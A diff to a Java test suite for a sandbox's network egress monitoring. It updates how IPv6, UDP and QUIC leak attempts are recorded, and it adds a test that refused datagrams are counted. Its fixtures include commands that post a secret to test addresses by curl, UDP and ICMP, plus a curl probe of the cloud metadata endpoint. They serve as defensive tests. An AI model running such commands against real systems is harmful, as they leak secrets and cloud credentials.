@@ -44,7 +44,7 @@ class NetExfiltrationTest {
         CONNECTION,
         /// A row of dns_events that is not `allowed`.
         QUESTION,
-        /// Refused by the sandbox's own kernel rules, before any byte reached us: there is nothing to record.
+        /// Not even a socket is to be had: nothing was sent anywhere, so there is nothing to record.
         NOWHERE
     }
 
@@ -84,10 +84,14 @@ class NetExfiltrationTest {
                 "curl -sSf --max-time 10 http://169.254.169.254/latest/meta-data/",
                 Recorded.CONNECTION,
                 "169.254.169.254"),
-        IPV6("curl -sSkf --max-time 10 -d " + SECRET + " 'https://[2001:db8::9]/'", Recorded.NOWHERE, ""),
-        UDP(udp("203.0.113.9", 9), Recorded.NOWHERE, ""),
-        QUIC(udp("203.0.113.9", 443), Recorded.NOWHERE, ""),
-        UDP_TO_AN_ALLOWED_NAME(udp("web.example.test", 443), Recorded.NOWHERE, ""),
+        IPV6(
+                "curl -sSkf --max-time 10 -d " + SECRET + " 'https://[2001:db8::9]/'",
+                Recorded.CONNECTION,
+                "2001:db8:0:0:0:0:0:9"),
+        IPV6_UDP(udp("AF_INET6", "2001:db8::10", 443), Recorded.CONNECTION, "2001:db8:0:0:0:0:0:10"),
+        UDP(udp("AF_INET", "203.0.113.20", 9), Recorded.CONNECTION, "203.0.113.20"),
+        QUIC(udp("AF_INET", "203.0.113.21", 443), Recorded.CONNECTION, "203.0.113.21"),
+        UDP_TO_AN_ALLOWED_NAME(udp("AF_INET", "web.example.test", 443), Recorded.CONNECTION, "web.example.test"),
         ICMP(
                 "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1);" + " s.sendto(b'"
                         + SECRET + "', ('203.0.113.9', 0)); s.settimeout(2); s.recv(1)\"",
@@ -153,8 +157,9 @@ class NetExfiltrationTest {
             this.trace = trace;
         }
 
-        private static String udp(String host, int port) {
-            return "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2);"
+        private static String udp(String family, String host, int port) {
+            return "python3 -c \"import socket; s = socket.socket(socket." + family
+                    + ", socket.SOCK_DGRAM); s.settimeout(2);"
                     + " s.connect(('" + host + "', " + port + ")); s.send(b'" + SECRET + "'); s.recv(1)\"";
         }
 
@@ -211,6 +216,32 @@ class NetExfiltrationTest {
         assertThat(world.upstreams().dns().asked())
                 .noneMatch(question ->
                         question.name().contains("exfil-me") || question.name().endsWith(".elsewhere.test"));
+    }
+
+    /// The guest hears at once that its datagrams go nowhere; the record counts them without repeating itself.
+    @Test
+    void refusedDatagramsAreCountedByDestination() {
+        Executed run = sandbox.exec("""
+                python3 - <<'END'
+                import socket, time
+                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+                errors = 0
+                for i in range(500):
+                    try: s.sendto(b'exfil-me', ('203.0.113.30', 443))
+                    except PermissionError: errors += 1
+                print(errors)
+                time.sleep(0.5)
+                END""");
+
+        assertThat(run.stdout()).isEqualTo("500\n");
+        Row row = sandbox.awaitRow("SELECT * FROM net_events WHERE domain = '203.0.113.30'");
+        assertThat(row.text("conn_type")).isEqualTo("udp");
+        assertThat(row.number("port")).isEqualTo(443);
+        assertThat(row.text("decision")).isEqualTo("denied");
+        assertThat(row.text("process_name")).isEqualTo("python3");
+        assertThat(row.text("policy_reason")).startsWith("udp does not leave the sandbox: 1 packet refused inside");
+        assertThat(row.number("bytes_sent")).isZero();
+        assertThat(sandbox.everything()).doesNotContain("exfil-me'");
     }
 
     /// A name under an allowed zone can carry data past any list of names: it passes, and is reported.
